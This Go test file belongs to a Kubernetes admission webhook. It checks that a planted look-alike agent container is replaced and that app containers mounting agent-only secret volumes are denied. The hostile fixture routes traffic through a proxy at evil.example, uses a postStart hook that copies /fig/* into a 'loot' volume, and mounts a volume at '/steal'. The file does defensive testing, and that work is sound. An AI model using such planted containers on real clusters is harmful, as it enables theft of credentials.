package inject_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"

	"github.com/fig-injector/fig-injector/injector/inject"
)

// TestPodSuppliedAgentContainerIsReplaced: a container the pod's author
// named like the agent, with envFrom, extra env (a proxy, another CA file),
// mounts, probes and lifecycle hooks, used to keep all of them through the
// merge. On first admission it is replaced by the webhook's own container
// (only the ServiceAccount token mount survives, which the API server's
// plugin adds to every container), exactly what a pod without it gets; a
// reinvocation changes nothing.
func TestPodSuppliedAgentContainerIsReplaced(t *testing.T) {
	s := testSettings()
	for _, mode := range []string{"native", "classic"} {
		t.Run(mode, func(t *testing.T) {
			clean := newPod(basic(inject.ModeAnnotation, mode))
			if err := mutate(t, clean, s, ""); err != nil {
				t.Fatal(err)
			}
			hostile := newPod(basic(inject.ModeAnnotation, mode))
			hostile.Spec.Volumes = append(hostile.Spec.Volumes, corev1.Volume{Name: "loot", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}})
			planted := corev1.Container{
				Name: inject.AgentContainerName, Image: "evil.example/agent:latest",
				EnvFrom: []corev1.EnvFromSource{{ConfigMapRef: &corev1.ConfigMapEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "proxy"}}}},
				Env:     []corev1.EnvVar{{Name: "HTTPS_PROXY", Value: "http://evil.example:3128"}, {Name: "SSL_CERT_FILE", Value: "/loot/ca.pem"}},
				VolumeMounts: []corev1.VolumeMount{{Name: "loot", MountPath: "/loot"},
					{Name: "kube-api-access-abcde", MountPath: "/var/run/secrets/kubernetes.io/serviceaccount", ReadOnly: true}},
				Lifecycle:      &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"sh", "-c", "cp /fig/* /loot"}}}},
				LivenessProbe:  &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"true"}}}},
				WorkingDir:     "/loot",
				ReadinessProbe: &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"true"}}}},
			}
			if mode == "native" {
				planted.RestartPolicy = ptr(corev1.ContainerRestartPolicyAlways)
				hostile.Spec.InitContainers = append(hostile.Spec.InitContainers, planted)
			} else {
				hostile.Spec.Containers = append(hostile.Spec.Containers, planted)
			}
			if err := mutate(t, hostile, s, ""); err != nil {
				t.Fatal(err)
			}
			got, want := agentIn(hostile), agentIn(clean)
			want.VolumeMounts = append(want.VolumeMounts, planted.VolumeMounts[1])
			if d := cmp.Diff(want, got); d != "" {
				t.Errorf("the planted container was not replaced by the webhook's (-want +got):\n%s", d)
			}
			again := hostile.DeepCopy()
			if err := mutate(t, again, s, ""); err != nil {
				t.Fatal(err)
			}
			if d := cmp.Diff(hostile, again); d != "" {
				t.Errorf("reinvocation changed the pod:\n%s", d)
			}
		})
	}
}

// agentIn is the long-running agent container of an injected pod.
func agentIn(pod *corev1.Pod) *corev1.Container {
	for _, list := range [][]corev1.Container{pod.Spec.InitContainers, pod.Spec.Containers} {
		for i := range list {
			if list[i].Name == inject.AgentContainerName {
				return &list[i]
			}
		}
	}
	return nil
}

func ptr[T any](v T) *T { return &v }

// TestAppContainerMayNotMountAgentOnlyVolumes: an app container mounting a
// volume named like the webhook's agent-only volumes would read the agent's
// client secret (or config, template, token) once the webhook's volume
// replaces the pod's; one that does not get the webhook's read-only mount
// of the shared volume could rewrite the file. Both are denied, naming the
// container and the volume.
func TestAppContainerMayNotMountAgentOnlyVolumes(t *testing.T) {
	s := testSettings()
	tests := []struct {
		name   string
		volume string
		extra  []string // annotations
		denial string   // "" = admitted
	}{
		{"client secret", inject.ClientSecretVolumeName, nil, `volumeMounts of container "app": mounts volume "fig-injector-client-secret", which only the fig-injector agent may mount`},
		{"trust bundle", inject.TrustVolumeName, nil, `mounts volume "fig-injector-ca"`},
		{"token", inject.TokenVolumeName, nil, `mounts volume "fig-injector-azure-identity-token"`},
		{"shared volume, not selected", inject.VolumeName, []string{inject.ContainersAnnotation, "web"}, `volumeMounts of container "app": mounts volume "fig-injector"`},
		{"shared volume, selected (replaced read-only)", inject.VolumeName, nil, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			pod := newPod(basic(tc.extra...))
			pod.Spec.Containers = append(pod.Spec.Containers, corev1.Container{Name: "web", Image: "registry.example/web:1"})
			pod.Spec.Volumes = append(pod.Spec.Volumes, corev1.Volume{Name: tc.volume, VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}})
			pod.Spec.Containers[0].VolumeMounts = append(pod.Spec.Containers[0].VolumeMounts, corev1.VolumeMount{Name: tc.volume, MountPath: "/steal"})
			expectDenial(t, mutate(t, pod, s, ""), tc.denial)
		})
	}
}

// expectDenial checks Mutate's answer: admitted when denial is "", else
// denied with a message containing it.
func expectDenial(t *testing.T, err error, denial string) {
	t.Helper()
	switch {
	case denial == "" && err != nil:
		t.Fatalf("denied: %v", err)
	case denial != "" && (err == nil || !strings.Contains(err.Error(), denial)):
		t.Fatalf("got %v, want a denial containing %q", err, denial)
	}
}
